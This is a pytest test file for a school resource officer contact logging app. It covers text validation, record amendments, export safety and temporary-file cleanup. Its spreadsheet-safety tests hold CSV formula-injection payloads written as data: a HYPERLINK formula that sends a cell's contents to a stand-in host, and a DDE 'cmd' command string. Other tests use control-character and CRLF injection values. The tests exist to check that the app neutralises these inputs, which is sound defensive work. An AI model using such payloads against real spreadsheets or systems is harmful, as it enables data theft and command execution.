"""The record holds: bad text never gets in, amendments never empty it, exports never leak it.

Regression tests for issue 8's defects 1-4 and 9, and property tests that throw
arbitrary Unicode (lone surrogates and control characters included) at every text
the app accepts from an officer or a supervisor.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import stat
import tempfile
import uuid
from collections import Counter
from datetime import UTC, datetime

import pytest
import sqlite_utils
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from logger import create_app, rules
from logger.core.database import insert_rows
from logger.core.models import AuditEvent, Contact, ContactRevision, ReviewDecision, User
from logger.extensions import db
from tests.factories import (
    Api,
    Auth,
    arrest_entry,
    envelope,
    form_token,
    make_school,
    make_user,
    mentoring_entry,
)

TEXT_FIELDS = ("narrative", "justification.basis", "justification.why_last_resort")
ANY_TEXT = st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=60)
PROPERTY = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def team(app):
    """Lincoln, officer Ruiz supervised by Park, evaluator Ode, admin Lee."""
    with app.app_context():
        lincoln = make_school("LHS", "Lincoln High School")
        park = make_user("sgt.park", "supervisor")
        make_user("ofc.ruiz", schools=[lincoln], supervisor=park)
        make_user("eval.ode", "evaluator")
        make_user("admin.lee", "admin")
        return {"lincoln": lincoln.id}


class Person:
    """One signed-in browser: its own test client."""

    def __init__(self, app, username):
        self.client = app.test_client()
        Auth(self.client).login(username)

    def token(self, path: str = "/") -> str:
        page = self.client.get(path, follow_redirects=True).get_data(as_text=True)
        return form_token(page)

    def sync(self, *envelopes) -> list[dict]:
        return Api(self.client).sync(*envelopes)

    def decide(self, entry_id, decision, comment="", revision=1):
        return self.client.post(
            f"/review/{entry_id}/decision",
            data={
                "csrf_token": self.token(f"/review/{entry_id}"),
                "decision": decision,
                "comment": comment,
                "revision": revision,
            },
        )

    def export(self, **form):
        return self.client.post("/export", data={"csrf_token": self.token("/export"), **form})


def with_text(entry: dict, dotted: str, text: str) -> dict:
    entry = json.loads(json.dumps(entry))
    *parents, leaf = dotted.split(".")
    target = entry
    for part in parents:
        target = target.setdefault(part, {})
    target[leaf] = text
    return entry


def store_unchecked(app, entry_id: str, content: dict, status: str = "approved") -> None:
    """An entry written straight to the database, as older code let bad text in."""
    with app.app_context():
        officer = db.session.scalar(db.select(User).filter_by(username="ofc.ruiz"))
        now = datetime.now(UTC)
        contact = Contact(
            id=uuid.UUID(entry_id), officer=officer, current_revision=1, created_at=now
        )
        revision = ContactRevision(
            number=1,
            content=content,
            classification=content["classification"],
            occurred_at=rules.parse_datetime(content["occurred_at"]),
            school_id=content["school_id"],
            status=status,
            received_at=now,
            dictionary_version=rules.CURRENT_VERSION,
            is_record=status == "approved",  # as migration 0022 marks an approved revision
        )
        revision.derive_facts()
        contact.revisions.append(revision)
        db.session.add(contact)
        db.session.commit()


# ---- 1. only valid text is stored ------------------------------------------------------


@pytest.mark.parametrize(
    "text, words",
    [
        ("The student ran off \ud800 behind the gym and hid there.", "broken character"),
        ("The student ran off \x00 behind the gym and hid there.", "control character"),
        ("The student ran off \x1b[2J behind the gym and hid there.", "control character"),
        ("The student ran off \x85 behind the gym and hid there.", "control character"),
        ("The student ran off\r behind the gym and hid there.", "control character"),
    ],
)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_the_sync_api_refuses_broken_text_naming_the_field(app, team, field, text, words):
    ruiz = Person(app, "ofc.ruiz")
    sent = envelope(with_text(arrest_entry(team["lincoln"]), field, text))
    [result] = ruiz.sync(sent)
    assert result["status"] == "invalid"
    [message] = result["errors"][field]
    assert words in message and rules.FIELDS_BY_NAME[field].label in message
    with app.app_context():
        assert db.session.get(Contact, uuid.UUID(sent["id"])) is None


def test_tabs_and_line_breaks_are_kept_and_crlf_becomes_one_line_break(app, team):
    ruiz = Person(app, "ofc.ruiz")
    sent = envelope(
        mentoring_entry(team["lincoln"], narrative="Lunch:\tfine.\r\nLater: also fine.")
    )
    assert ruiz.sync(sent)[0]["status"] == "accepted"
    with app.app_context():
        stored = db.session.get(Contact, uuid.UUID(sent["id"])).current.content
    assert stored["narrative"] == "Lunch:\tfine.\nLater: also fine."


def test_the_html_form_shows_the_message_beside_the_field_and_keeps_the_text(app, team):
    ruiz = Person(app, "ofc.ruiz")
    response = ruiz.client.post(
        "/entries/new",
        data={
            "csrf_token": ruiz.token("/entries/new"),
            "entry_id": str(uuid.uuid4()),
            "occurred_at": "2026-11-30T10:00",
            "school_id": str(team["lincoln"]),
            "location": "hallway",
            "initiated_by": "student",
            "classification": "mentoring",
            "mentoring_type": "mentoring",
            "students_involved": "1",
            "actions": "none",
            "narrative": "We talked\x07 about the bell schedule.",
        },
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "“Narrative” holds an invisible control character" in page
    assert "about the bell schedule." in page


@pytest.mark.parametrize("comment", ["Fine\x00", "Looks \x1b right", "O\x0ck"])
def test_a_review_comment_with_control_characters_is_refused_and_kept(app, team, comment):
    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(mentoring_entry(team["lincoln"]))
    ruiz.sync(sent)
    response = park.decide(sent["id"], "approve", comment)
    assert response.status_code == 422
    assert "“Comment” holds an invisible control character" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(db.select(ReviewDecision)) is None


def test_an_amendment_explanation_with_broken_text_is_refused(app, team):
    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(mentoring_entry(team["lincoln"]))
    ruiz.sync(sent)
    park.decide(sent["id"], "approve")
    amended = envelope(
        mentoring_entry(team["lincoln"], students_involved=2),
        sent["id"],
        1,
        amendment_explanation="Two students \ud83d were there.",
    )
    [result] = ruiz.sync(amended)
    assert result["status"] == "invalid"
    assert "broken character" in result["errors"]["amendment_explanation"][0]


@pytest.mark.parametrize("query", ["?action=%00", "?user=a%00b", "?user=%1b", "?action=x%0d%0ay"])
def test_audit_filters_with_control_characters_are_ignored_not_a_500(app, team, query):
    lee = Person(app, "admin.lee")
    response = lee.client.get(f"/audit{query}")
    assert response.status_code == 200
    assert "Ignored a filter" in response.get_data(as_text=True)


# ---- check-data and exports that are whole or nothing -----------------------------------


@pytest.fixture
def poisoned(app, team):
    """One approved arrest whose justification holds a lone surrogate, stored before the checks."""
    entry_id = str(uuid.uuid4())
    content = with_text(
        arrest_entry(team["lincoln"]),
        "justification.basis",
        "A knife \ud800 was found in the student's backpack.",
    )
    store_unchecked(app, entry_id, content)
    return entry_id


def test_check_data_names_each_entry_today_s_validation_would_refuse(app, runner, poisoned):
    result = runner.invoke(args=["check-data"])
    assert result.exit_code == 1
    assert (
        f"entry {poisoned} revision 1, justification.basis: “justification.basis” holds a "
        "broken character"
    ) in result.output
    assert "1 stored text would be refused today" in result.output


def test_check_data_is_quiet_on_a_clean_record(app, runner, team):
    Person(app, "ofc.ruiz").sync(envelope(arrest_entry(team["lincoln"])))
    result = runner.invoke(args=["check-data"])
    assert result.exit_code == 0, result.output
    assert "No stored text would be refused today." in result.output


@pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
def test_an_export_that_cannot_be_written_whole_sends_nothing_but_a_reason(
    app, poisoned, export_format
):
    response = Person(app, "eval.ode").export(format=export_format)
    assert response.status_code == 409
    assert response.mimetype == "text/html"
    assert f"entry {poisoned} holds text that cannot be written" in response.get_data(as_text=True)


@pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
def test_an_export_names_the_one_unwritable_entry_among_clean_ones(app, team, export_format):
    """Exports write entries a batch at a time: the reason still names the right one."""
    clean = [str(uuid.uuid4()) for _ in range(3)]
    poisoned = str(uuid.uuid4())
    for entry_id in clean[:2]:
        store_unchecked(app, entry_id, arrest_entry(team["lincoln"]))
    bad = with_text(arrest_entry(team["lincoln"]), "justification.basis", "Knife \udfff found.")
    store_unchecked(app, poisoned, bad)
    store_unchecked(app, clean[2], arrest_entry(team["lincoln"]))
    response = Person(app, "eval.ode").export(format=export_format)
    assert response.status_code == 409
    text = response.get_data(as_text=True)
    assert f"entry {poisoned} holds text that cannot be written" in text
    assert not any(entry_id in text for entry_id in clean)


@pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
def test_the_export_command_leaves_no_partial_file(app, runner, poisoned, tmp_path, export_format):
    target = tmp_path / f"out.{export_format}"
    result = runner.invoke(args=["export", "--format", export_format, "-o", str(target)])
    assert result.exit_code == 1
    assert f"entry {poisoned} holds text that cannot be written" in result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "args", [["--school", "L\x00HS"], ["--officer", "ofc\x00ruiz"], ["--school", "\udcff"]]
)
def test_the_export_command_refuses_unreadable_filters_in_one_line(
    app, runner, team, tmp_path, args
):
    result = runner.invoke(args=["export", "--format", "csv", "-o", str(tmp_path / "x.csv"), *args])
    assert result.exit_code == 2 and "Error: Invalid value for" in result.output


# ---- 2. the record is the latest approved revision -------------------------------------


def force_entry(school_id, **changes):
    entry = arrest_entry(school_id, actions=["use_of_force"], force_types=["takedown"])
    entry["justification"].update(injuries="none", supervisor_notified=True)
    entry.update(changes)
    return entry


def approved_export(app) -> list[dict]:
    response = Person(app, "eval.ode").export(format="csv")
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def assessed_force(app) -> int:
    from logger.evaluation import assessment

    with app.app_context():
        years = assessment.available_years(assessment.start_month())
        return sum(assessment.assess(year).actions["use_of_force"] for year in years)


def record_marks(app, entry_id: str) -> list[int]:
    """The revisions the database marks as the entry's record (what SQL counts read)."""
    with app.app_context():
        return db.session.scalars(
            db.select(ContactRevision.number)
            .filter_by(contact_id=uuid.UUID(entry_id), is_record=True)
            .order_by(ContactRevision.number)
        ).all()


def test_an_amendment_never_takes_an_approved_use_of_force_out_of_the_record(app, team):
    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(force_entry(team["lincoln"]))
    ruiz.sync(sent)
    assert park.decide(sent["id"], "approve", "Reviewed the video.").status_code == 302

    amendment = envelope(
        force_entry(team["lincoln"], force_types=["physical_control"]),
        sent["id"],
        1,
        amendment_explanation="It was a hold, not a takedown.",
    )
    assert ruiz.sync(amendment)[0] == {
        "id": sent["id"],
        "status": "accepted",
        "revision": 2,
        "errors": {},
    }
    [row] = approved_export(app)
    assert (row["revision"], row["pending_revision"], row["force_types"]) == ("1", "2", "takedown")
    assert assessed_force(app) == 1 and record_marks(app, sent["id"]) == [1]
    page = ruiz.client.get(f"/entries/{sent['id']}").get_data(as_text=True)
    assert "Revision 1 (approved) is the record. Revision 2 waits for review" in page
    page = park.client.get(f"/review/{sent['id']}").get_data(as_text=True)
    assert "Revision 1 (approved) is the record. Revision 2 waits for review" in page

    assert (
        park.decide(
            sent["id"], "return", "Say why the video shows a takedown.", revision=2
        ).status_code
        == 302
    )
    [row] = approved_export(app)
    assert (row["revision"], row["pending_revision"], row["force_types"]) == ("1", "2", "takedown")
    assert assessed_force(app) == 1 and record_marks(app, sent["id"]) == [1]
    assert "Revision 2 was returned" in ruiz.client.get(f"/entries/{sent['id']}").get_data(
        as_text=True
    )

    again = envelope(
        force_entry(
            team["lincoln"], force_types=["physical_control"], narrative="The video shows a hold."
        ),
        sent["id"],
        2,
    )
    assert ruiz.sync(again)[0]["status"] == "accepted"
    assert (
        park.decide(sent["id"], "approve", "Agreed after the video.", revision=3).status_code == 302
    )
    [row] = approved_export(app)
    assert (row["revision"], row["pending_revision"], row["force_types"]) == (
        "3",
        "",
        "physical_control",
    )
    assert assessed_force(app) == 1 and record_marks(app, sent["id"]) == [3]


def test_the_public_summary_counts_an_amended_entry_once_as_its_record(app, team):
    from logger.public import summary

    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(force_entry(team["lincoln"], occurred_at="2026-01-15T10:00:00-06:00"))
    ruiz.sync(sent)
    park.decide(sent["id"], "approve", "Reviewed.")
    ruiz.sync(
        envelope(
            force_entry(
                team["lincoln"], occurred_at="2026-01-15T10:00:00-06:00", narrative="More detail."
            ),
            sent["id"],
            1,
            amendment_explanation="Added the detail asked for.",
        )
    )
    with app.app_context():
        [(quarter, by_school)] = summary.counts(None, datetime(2026, 6, 1).date()).items()
    assert quarter.key.startswith("2026")
    assert by_school[team["lincoln"]] == {
        "criminal": 1,
        "use_of_force": 1,
        "crdc_referral_to_law_enforcement": 1,
    }


# ---- 3. exports are safe in a spreadsheet -----------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1+2 students ran off behind the gym fence",
        "-2+3 hidden from view behind the gym fence",
        "@SUM(A1) hidden behind the gym fence and more",
        "\t=1+1 tab first hidden behind the gym",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(app, team, text):
    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(
        arrest_entry(
            team["lincoln"],
            justification={**arrest_entry(team["lincoln"])["justification"], "basis": text},
        )
    )
    assert ruiz.sync(sent)[0]["status"] == "accepted", text
    park.decide(sent["id"], "approve", "Reviewed.")
    stored = text.strip()
    [row] = approved_export(app)
    assert row["justification_basis"] == "'" + stored
    evaluator = Person(app, "eval.ode")
    [line] = evaluator.export(format="jsonl").get_data(as_text=True).splitlines()
    assert json.loads(line)["justification"]["basis"] == stored


def test_the_sqlite_export_keeps_text_exactly_and_its_dictionary_says_why_csv_differs(
    app, team, tmp_path
):
    ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
    sent = envelope(
        arrest_entry(
            team["lincoln"],
            justification={**arrest_entry(team["lincoln"])["justification"], "basis": FORMULA},
        )
    )
    ruiz.sync(sent)
    park.decide(sent["id"], "approve", "Reviewed.")
    path = tmp_path / "out.db"
    path.write_bytes(Person(app, "eval.ode").export(format="sqlite").get_data())
    database = sqlite_utils.Database(path)
    assert [r["justification_basis"] for r in database["entries"].rows] == [FORMULA]
    notes = [
        r["description"]
        for r in database["data_dictionary"].rows
        if r["table_name"] == "(CSV exports)"
    ]
    assert notes and "apostrophe" in notes[0]


def test_the_public_summary_csv_is_spreadsheet_safe(app, team):
    from logger.public import summary

    with app.app_context():
        table = summary.quarter_table(
            summary.Quarter(2026, 1),
            [
                ("=cmd|' /C calc'!A0", Counter(criminal=3, arrest=2)),
                ("Lincoln High School", Counter(mentoring=12)),
            ],
        )
        rows = list(csv.reader(io.StringIO(summary.csv_text([table]))))
    assert [row[1] for row in rows[1:]] == [
        "'=cmd|' /C calc'!A0",
        "Lincoln High School",
        summary.ALL_SCHOOLS,
    ]
    assert "<10" in rows[1] and "12" in rows[2]  # counts are left as they are


# ---- 4. no copies left behind -----------------------------------------------------------


@pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
def test_web_exports_leave_nothing_in_the_temporary_folder(
    app, team, tmp_path, monkeypatch, export_format
):
    Person(app, "ofc.ruiz").sync(envelope(arrest_entry(team["lincoln"])))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    seen = []
    real_open = os.open

    def watched_open(path, flags, mode=0o777, *args, **kwargs):
        if str(path).startswith(str(tmp_path)) and flags & (os.O_CREAT | os.O_TMPFILE):
            seen.append((str(path), mode))
        return real_open(path, flags, mode, *args, **kwargs)

    monkeypatch.setattr(os, "open", watched_open)
    response = Person(app, "eval.ode").export(format=export_format, status="all")
    assert response.status_code == 200 and response.get_data()
    response.close()
    assert list(tmp_path.iterdir()) == []
    assert all(mode & 0o077 == 0 for _, mode in seen)  # never readable by others meanwhile
    assert seen or export_format == "sqlite"  # (text exports' files are made by os.open)


@pytest.mark.parametrize("export_format", ["csv", "sqlite"])
def test_a_refused_export_leaves_nothing_behind_either(
    app, poisoned, tmp_path, monkeypatch, export_format
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert Person(app, "eval.ode").export(format=export_format).status_code == 409
    assert list(tmp_path.iterdir()) == []


def test_the_export_command_writes_an_owner_only_file(app, runner, team, tmp_path):
    Person(app, "ofc.ruiz").sync(envelope(mentoring_entry(team["lincoln"])))
    target = tmp_path / "out.jsonl"
    result = runner.invoke(
        args=["export", "--format", "jsonl", "--status", "all", "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


def test_a_new_sqlite_database_is_created_owner_only(tmp_path):
    path = tmp_path / "new.sqlite3"
    create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "test-only",
            "SRO_EXPORT_KEY": "k" * 40,
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}",
        }
    )
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


# ---- 9. the small ones -----------------------------------------------------------------


def send_chunked(url: str, path: str, body: bytes) -> tuple[int, bytes]:
    host, port = url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=30)
    connection.putrequest("POST", path)
    connection.putheader("Transfer-Encoding", "chunked")
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Accept", "application/json")
    connection.endheaders()
    for start in range(0, len(body), 64 * 1024):
        piece = body[start : start + 64 * 1024]
        connection.send(b"%x\r\n%s\r\n" % (len(piece), piece))
    connection.send(b"0\r\n\r\n")
    response = connection.getresponse()
    return response.status, response.read()


def test_a_chunked_body_over_one_megabyte_gets_413_like_any_other(app, live_server):
    status, body = send_chunked(live_server.url, "/api/v1/sync", b" " * (1024 * 1024 + 1))
    assert status == 413 and json.loads(body)["error"] == "too_large"
    status, body = send_chunked(live_server.url, "/api/v1/sync", b'{"entries": []}')
    assert status == 401  # read whole and passed on: only the missing sign-in stops it


def test_json_answers_and_downloads_are_never_cached(app, team):
    ruiz = Person(app, "ofc.ruiz")
    for path in ("/api/v1/session", "/api/v1/schema", "/api/v1/entries"):
        assert ruiz.client.get(path).headers["Cache-Control"] == "no-store"
    assert Person(app, "eval.ode").export(format="csv").headers["Cache-Control"] == "no-store"
    assert app.test_client().get("/api/v1/session").headers["Cache-Control"] == "no-store"


# ---- property tests: arbitrary text through every door --------------------------------


def pages_and_exports_render(app, entry_id: str) -> None:
    """The officer's and supervisor's pages and all four exports answer in full."""
    ruiz, park, ode = Person(app, "ofc.ruiz"), Person(app, "sgt.park"), Person(app, "eval.ode")
    assert ruiz.client.get(f"/entries/{entry_id}").status_code == 200
    assert park.client.get(f"/review/{entry_id}").status_code == 200
    for export_format in ("csv", "students.csv", "jsonl", "sqlite"):
        response = ode.export(format=export_format, status="all", narratives="yes")
        assert response.status_code == 200, export_format
        body = response.get_data()
        if export_format != "sqlite":
            body.decode("utf-8")  # whole, valid UTF-8


@PROPERTY
@given(field=st.sampled_from(TEXT_FIELDS), text=ANY_TEXT)
def test_any_text_in_an_entry_is_refused_or_renders_everywhere(app, team, field, text):
    base = force_entry(team["lincoln"])
    [result] = Person(app, "ofc.ruiz").sync(envelope(with_text(base, field, text * 3)))
    assert result["status"] in ("accepted", "invalid")
    if result["status"] == "accepted":
        pages_and_exports_render(app, result["id"])
    else:
        assert result["errors"]


# A browser's form post cannot carry a lone surrogate (Werkzeug decodes it as U+FFFD).
FORM_TEXT = st.text(alphabet=st.characters(codec=None, exclude_categories=("Cs",)), max_size=60)


@PROPERTY
@given(comment=FORM_TEXT)
def test_any_review_comment_is_refused_or_renders_everywhere(app, team, comment):
    sent = envelope(mentoring_entry(team["lincoln"]))
    Person(app, "ofc.ruiz").sync(sent)
    response = Person(app, "sgt.park").decide(sent["id"], "return", comment)
    assert response.status_code in (302, 422)
    pages_and_exports_render(app, sent["id"])


@PROPERTY
@given(explanation=ANY_TEXT)
def test_any_amendment_explanation_is_refused_or_renders_everywhere(app, team, explanation):
    ruiz = Person(app, "ofc.ruiz")
    sent = envelope(mentoring_entry(team["lincoln"]))
    ruiz.sync(sent)
    Person(app, "sgt.park").decide(sent["id"], "approve")
    [result] = ruiz.sync(
        envelope(
            mentoring_entry(team["lincoln"], students_involved=2),
            sent["id"],
            1,
            amendment_explanation=explanation * 2,
        )
    )
    assert result["status"] in ("accepted", "invalid")
    pages_and_exports_render(app, sent["id"])


def test_rows_inserted_together_must_all_name_the_same_columns(app, team):
    """A Core executemany takes the first row's columns for every row; a value only a later
    row has would be dropped without a word, so such a batch is refused, nothing stored."""
    at = datetime(2026, 1, 5, 12, tzinfo=UTC)
    rows = [
        {"at": at, "actor_id": None, "action": "test.first"},
        {"at": at, "actor_id": None, "action": "test.second", "client_addr": "10.0.0.9"},
    ]
    with app.app_context():
        with pytest.raises(ValueError, match="audit_events"):
            insert_rows(AuditEvent, rows)
        db.session.rollback()
        assert db.session.query(AuditEvent).filter(AuditEvent.action.like("test.%")).count() == 0
